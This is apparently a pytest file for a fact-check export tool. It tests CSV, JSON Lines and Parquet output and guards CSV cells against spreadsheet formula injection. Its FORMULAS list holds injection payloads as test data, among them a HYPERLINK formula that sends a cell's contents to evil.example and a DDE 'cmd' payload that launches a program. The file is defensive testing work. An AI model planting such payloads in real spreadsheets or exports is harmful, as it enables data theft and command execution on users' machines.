"""Tables of claims: what others' readers find in them, harmless in a spreadsheet, unaltered elsewhere."""

from __future__ import annotations

import csv
import io
import json
import sys
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import ArrowInvalid, parquet
from pyarrow import csv as arrow_csv
from pyarrow import json as arrow_json
from pytest_regressions.file_regression import FileRegressionFixture

from claimkit.annotations.dossiers import Dossier
from claimkit.errors import RefusalError
from claimkit.export import exporter
from claimkit.export.tables.csvtable import COLUMNS, harmless
from pahalgam import BACKED, CONFIG, FIRST, KILLED, PAGE, VIOLATED, dossier

TABLES = ("csv", "jsonl", "parquet")

FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", " =1",
    "\uff1d1", "text;=1", "text; =1", "text\t+1", "text\n=1", "text\r\n@x", "a | =1", "\u00a0=1",
]  # fmt: skip
HARMLESS = [
    "5-3",
    "a=b",
    "x@example.org",
    "non-stop; e-mail",
    "10 - 5",
    "“=1”",
    "",
    "'=1",
    "a, -5",
    "https://e.org/a,-b",
]


def rendered(name: str, item: Dossier | None = None) -> bytes:
    ((_, data),) = exporter(name)(item or dossier(), CONFIG).files.items()
    return data


def rows(item: Dossier | None = None) -> list[dict[str, str]]:
    """What the csv module reads."""
    return list(csv.DictReader(io.StringIO(rendered("csv", item).decode(), newline=""), strict=True))


def lines(item: Dossier | None = None) -> list[dict[str, Any]]:
    return [json.loads(line) for line in rendered("jsonl", item).decode().split("\n")[:-1]]


def table(item: Dossier | None = None) -> list[dict[str, Any]]:
    """What pyarrow reads."""
    found: list[dict[str, Any]] = parquet.read_table(io.BytesIO(rendered("parquet", item))).to_pylist()
    return found


def worded(text: str) -> Dossier:
    """A dossier in which every text that people write is ``text``."""
    claim = replace(KILLED, text=text, short=text)
    own = replace(FIRST.reviews[0], rationale=text, evidence=(replace(FIRST.reviews[0].evidence[0], title=text),))
    return dossier(claims=(claim,), reviews=(replace(FIRST, added=(), reviews=(own,)),))


def filled(value: Any) -> Any:
    """``value`` without what is empty in it."""
    if isinstance(value, dict):
        return {key: filled(item) for key, item in value.items() if item not in (None, [])}
    return [filled(item) for item in value] if isinstance(value, list) else value


@pytest.mark.parametrize("name", ["csv", "jsonl"])
def test_golden(name: str, file_regression: FileRegressionFixture) -> None:
    file_regression.check(rendered(name), binary=True, extension=f".{name}")


def test_pyarrow_reads_the_csv_as_the_csv_module_does() -> None:
    options = arrow_csv.ParseOptions(newlines_in_values=True)
    found = arrow_csv.read_csv(io.BytesIO(rendered("csv")), parse_options=options)
    assert found.column_names == list(COLUMNS)
    assert [item["text"] for item in found.to_pylist()] == [row["text"] for row in rows()]
    assert found.column("rank").to_pylist() == [4, None, None, None, None, None]


def test_a_row_has_the_verdict_the_words_and_the_evidence() -> None:
    row = rows()[0]
    assert (row["verdict"], row["rank"], row["settled_how"]) == ("mostly-true", "4", "adjudicated")
    assert (row["starts"], row["ends"]) == ("166 | 223", "215 | 247")
    assert row["claimreview"] == f"{PAGE}#claimreview-{KILLED.id}"
    assert row["evidence"].split(" | ")[0] == "supports: https://news.example/list"


def test_rows_end_and_texts_are_quoted_as_rfc_4180_has_it() -> None:
    data = rendered("csv")
    assert data.count(b"\r\n") == 1 + 6
    assert not data.startswith(b"\xef\xbb\xbf")
    assert '"say ""no"""' in rendered("csv", worded('say "no"')).decode()


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    (row,) = rows(worded(text))
    for cell in (row["text"], row["short"], row["rationale"]):
        assert cell.replace("'", "") == text.replace("'", ""), "only apostrophes are added"
        for part in cell.replace("\r", "\n").replace("\t", "\n").replace(";", "\n").replace("|", "\n").split("\n"):
            assert not part.strip(" \u00a0").startswith(("=", "+", "-", "@", "\uff1d"))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, 'quotes " and, commas', "\u2028 \u202e \U0001f600", "{}[]\\n", "\x00\x1f"])
def test_json_lines_and_parquet_carry_the_text_unaltered(text: str) -> None:
    (line,), (row,) = lines(worded(text)), table(worded(text))
    for found in (line, row):
        assert (found["text"], found["rationale"], found["evidence"][0]["title"]) == (text, text, text)


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1))
def test_a_csv_text_without_its_apostrophes_is_the_text(text: str) -> None:
    (row,) = rows(worded(text))
    assert row["text"].replace("'", "") == text.replace("'", "")


def test_parquet_holds_what_json_lines_hold() -> None:
    assert [filled(row) for row in table()] == lines()


def test_pyarrow_reads_the_json_lines_too() -> None:
    assert arrow_json.read_json(io.BytesIO(rendered("jsonl"))).column("id").to_pylist() == [row["id"] for row in rows()]


def test_a_retracted_claim_has_no_verdict_in_any_table() -> None:
    for found in (lines(), table()):
        (row,) = [item for item in found if item["id"] == BACKED.id]
        assert not any(row.get(name) for name in ("verdict", "label", "rank", "rationale", "evidence"))
        assert row["retracted"]["date"] == "2026-11-27"
    (cells,) = [item for item in rows() if item["id"] == BACKED.id]
    assert not any(cells[name] for name in ("verdict", "label", "rank", "rationale", "evidence"))
    assert cells["retracted_date"] == "2026-11-27"


def test_what_is_for_the_desk_only_is_in_no_table() -> None:
    for name in ("csv", "jsonl"):
        text = rendered(name).decode()
        assert "To be looked at again." not in text
        assert "The list names one officer." not in text


@pytest.mark.parametrize("name", TABLES)
def test_a_lone_surrogate_is_refused(name: str) -> None:
    with pytest.raises(RefusalError, match="cannot be written as"):
        rendered(name, worded("\ud800"))


def test_without_pyarrow_the_remedy_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(RefusalError) as caught:
        rendered("parquet")
    assert "pip install pyarrow" in caught.value.message


def test_the_readers_refuse_what_is_broken() -> None:
    with pytest.raises(csv.Error):
        list(csv.reader(io.StringIO('"a"b,"c"\r\n'), strict=True))
    with pytest.raises(ArrowInvalid, match="not a parquet file"):
        parquet.read_table(io.BytesIO(rendered("parquet")[:-9]))


def test_an_empty_article_gives_a_header_and_nothing_else() -> None:
    bare = dossier(claims=(), reviews=(), decisions=None)
    assert (rows(bare), lines(bare), table(bare)) == ([], [], [])
    assert VIOLATED.text not in rendered("csv", bare).decode()
